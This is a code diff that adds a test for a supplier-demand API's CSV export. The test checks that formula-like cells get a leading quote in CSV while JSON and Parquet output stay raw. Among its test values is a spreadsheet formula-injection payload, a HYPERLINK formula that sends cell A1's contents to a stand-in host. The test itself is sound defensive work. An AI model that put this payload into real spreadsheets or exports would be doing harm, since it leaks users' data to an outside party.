@@ -154,3 +154,46 @@ def test_as_of_is_the_platform_day_of_a_zoned_stamp(tmp_path) -> None:
         assert "demand_SUP1_2026-11-29.json" in r.headers["content-disposition"]
         r = client.get("/v1/suppliers/SUP1/demand?format=json&as_of=2026-11-28", headers=bearer(key))
         assert r.status_code == 404 and "as-of dates held: 2026-11-29" in r.json()["detail"]
+
+
+def test_csv_neutralises_formulas_json_and_parquet_stay_raw(tmp_path) -> None:
+    """Text cells starting with = + - @ tab CR get a leading ' in CSV only; numbers stay numbers."""
+    import csv
+
+    from api.app import create_app
+    from api.keys import create_key
+    from api.testing import write_snapshot
+    from pipelines.home import Home
+    from tests.api.conftest import FAST
+
+    evil = '=HYPERLINK("http://x.test/?"&A1,"点此")'
+    names = {"P1": evil, "P2": "-20% 特价大米", "P3": "@SUM(1+1)"}
+    world = small_world()
+    world["products"] = world["products"].with_columns(
+        pl.col("product_id").replace_strict(names, default=pl.col("name")).alias("name")
+    )
+    world["demand"] = world["demand"].with_columns(
+        pl.when(pl.col("product_id") == "P3").then(-5).otherwise("ordered_qty").alias("ordered_qty"),
+        pl.when(pl.col("product_id") == "P2")
+        .then(pl.lit("\tW1"))
+        .otherwise("warehouse_id")
+        .alias("warehouse_id"),
+    )
+    home = Home(tmp_path / "h").ensure()
+    write_snapshot(home, world, run_id="r-formula")
+    key = create_key(home, "supplier", "SUP1")
+    with TestClient(create_app(home, FAST)) as client:
+        r = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=bearer(key))
+        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+        by_product = {row["product_id"]: row for row in rows}
+        assert by_product["P1"]["product_name"] == "'" + evil
+        assert by_product["P2"]["product_name"] == "'-20% 特价大米"
+        assert by_product["P2"]["warehouse_id"] == "'\tW1"
+        assert by_product["P3"]["product_name"] == "'@SUM(1+1)"
+        assert by_product["P3"]["ordered_qty"] == "-5"  # a negative number is data, not a name
+        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for k, v in row.items()
+                   if k != "ordered_qty")
+        body = client.get("/v1/suppliers/SUP1/demand?format=json", headers=bearer(key)).json()
+        assert {row["product_name"] for row in body["rows"]} >= {evil, "-20% 特价大米", "@SUM(1+1)"}
+        raw = client.get("/v1/suppliers/SUP1/demand?format=parquet", headers=bearer(key)).content
+        assert evil in pl.read_parquet(io.BytesIO(raw))["product_name"].to_list()
